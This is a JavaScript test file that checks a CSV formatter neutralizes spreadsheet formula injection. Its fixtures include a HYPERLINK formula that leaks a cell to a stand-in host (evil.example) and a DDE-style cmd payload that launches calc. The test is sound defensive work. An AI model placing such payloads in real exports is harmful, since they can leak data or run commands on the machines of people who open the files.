import { describe, expect, it } from 'vitest';
import { openEngine } from '../../src/engine/index.js';
import { formatResult, neutralizeFormula } from '../../src/engine/format.js';
import { Lake } from '../../src/lake/lake.js';
import { scratchDir } from '../helpers.js';

describe('CSV output a spreadsheet may open (crmlake sql --format csv, the report\'s CSV files)', () => {
  it('neutralizes cells starting with = + - @ tab or CR and leaves negative numbers numeric', async () => {
    const { dir, cleanup } = await scratchDir('csv-injection');
    const engine = await openEngine(new Lake(dir), { sources: [], quarantineColumns: [] });
    try {
      const result = await engine.query(
        `SELECT * FROM (VALUES
           ('=HYPERLINK("http://evil.example/?"&A1,"click")', -5, CAST(-12.50 AS DECIMAL(10,2)), '-3.5'),
           ('+cmd|'' /C calc''!A0', 0, CAST(1 AS DECIMAL(10,2)), '-2+3'),
           ('@SUM(A1:A9)', 7, CAST(-0.01 AS DECIMAL(10,2)), chr(9) || '=1+1'),
           (chr(13) || '=1', 1, CAST(2 AS DECIMAL(10,2)), 'O''Brien, Ann')
         ) AS t(name, n, amount, note)`,
      );
      const lines = formatResult(result, 'csv').split('\n');
      expect(lines[0]).toBe('name,n,amount,note');
      expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,-12.5,-3.5`);
      expect(lines[2]).toBe(`"'+cmd|' /C calc'!A0",0,1,"'-2+3"`);
      expect(lines[3]).toBe(`"'@SUM(A1:A9)",7,-0.01,"'\t=1+1"`);
      expect(lines[4]).toBe(`"'\r=1",1,2,"O'Brien, Ann"`);
    } finally {
      await engine.close();
      await cleanup();
    }
  });

  it('follows the rule cell by cell', () => {
    expect(['=1', '+1', '-1', '-1.5e3', '@x', '-', '- 1', 'a=b', '', '1e5'].map(neutralizeFormula)).toEqual([
      "'=1", '+1', '-1', '-1.5e3', "'@x", "'-", "'- 1", 'a=b', '', '1e5',
    ]);
  });
});
